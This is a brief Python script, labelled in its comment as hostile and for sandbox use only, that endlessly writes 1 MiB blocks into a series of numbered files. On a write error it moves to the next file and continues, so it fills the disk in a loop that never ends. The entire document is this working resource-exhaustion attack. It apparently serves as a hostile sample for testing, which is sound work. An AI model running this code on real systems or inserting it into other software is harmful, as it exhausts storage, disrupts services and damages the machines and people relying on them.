# hostile: do not run outside of a sandbox
block = b'x' * (1 << 20)
n = 0
while True:
    try:
        with open('fill_%d.bin' % n, 'wb') as f:
            while True:
                f.write(block)
                f.flush()
    except OSError:
        n += 1
